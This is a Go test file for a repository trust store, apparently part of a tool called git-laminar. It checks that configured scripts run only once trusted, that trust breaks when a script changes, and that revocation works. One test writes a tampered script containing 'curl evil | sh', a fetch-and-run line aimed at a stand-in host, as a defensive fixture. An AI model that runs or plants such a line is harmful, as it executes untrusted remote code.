package truststore

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/git-laminar/git-laminar/internal/config"
	"github.com/git-laminar/git-laminar/internal/gitrepo"
)

// clone is a git repository whose laminar.toml runs ./render.sh.
func clone(t *testing.T) Store {
	t.Helper()
	t.Setenv("HOME", t.TempDir())
	t.Setenv("GIT_CONFIG_NOSYSTEM", "1")
	dir := t.TempDir()
	write := func(name, content string, mode os.FileMode) {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), mode); err != nil {
			t.Fatal(err)
		}
	}
	write("laminar.toml", "[[registry]]\nprefix = \"r.example.com/acme\"\n\n[[update]]\nname = \"dev\"\npattern = \"glob:develop-*\"\nexec = [\"./render.sh\"]\n", 0o644)
	write("render.sh", "#!/bin/sh\ntrue\n", 0o755)
	for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"add", "."}, {"-c", "user.name=T", "-c", "user.email=t@example.com", "commit", "-q", "-m", "init"}} {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	repo, err := gitrepo.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	cfg, err := config.Load(filepath.Join(dir, "laminar.toml"))
	if err != nil {
		t.Fatal(err)
	}
	return Store{Repo: repo, Config: cfg}
}

func TestTrustAndRevoke(t *testing.T) {
	s := clone(t)
	st, err := s.Status()
	if err != nil || st.Trusted() || !st.Diff.NoRecord {
		t.Fatalf("fresh clone: %+v, %v", st, err)
	}
	if err := s.Check([]string{"dev: ./render.sh"}, st); err == nil || !strings.Contains(err.Error(), "not trusted") {
		t.Errorf("Check of an untrusted command: %v", err)
	}
	if err := s.Check(nil, st); err != nil {
		t.Errorf("Check of no command: %v", err)
	}
	if added, err := s.Trust(); !added || err != nil {
		t.Fatalf("Trust: %v, %v", added, err)
	}
	if ok, err := s.Trusted(); !ok || err != nil {
		t.Fatalf("after Trust: %v, %v", ok, err)
	}
	if added, err := s.Trust(); added || err != nil {
		t.Errorf("Trust again: %v, %v", added, err)
	}

	// The script changes in the working tree: what runs is no longer what
	// was trusted.
	if err := os.WriteFile(filepath.Join(s.Repo.Root, "render.sh"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	st, _ = s.Status()
	if st.Trusted() || strings.Join(st.Diff.Changed, ",") != "render.sh" {
		t.Errorf("changed script: %+v", st.Diff)
	}

	if n, err := s.Revoke(); n != 1 || err != nil {
		t.Fatalf("Revoke: %d, %v", n, err)
	}
	if _, err := os.Stat(filepath.Join(s.Repo.CommonDir, File)); !os.IsNotExist(err) {
		t.Errorf("the record is still there: %v", err)
	}
}

// A record that does not parse trusts nothing and says why.
func TestBrokenRecord(t *testing.T) {
	s := clone(t)
	if _, err := s.Trust(); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(s.Repo.CommonDir, File), []byte("{not json"), 0o600); err != nil {
		t.Fatal(err)
	}
	st, err := s.Status()
	if err != nil || st.RecordErr == nil || st.Trusted() {
		t.Errorf("broken record: trusted %v, record error %v, %v", st.Trusted(), st.RecordErr, err)
	}
}
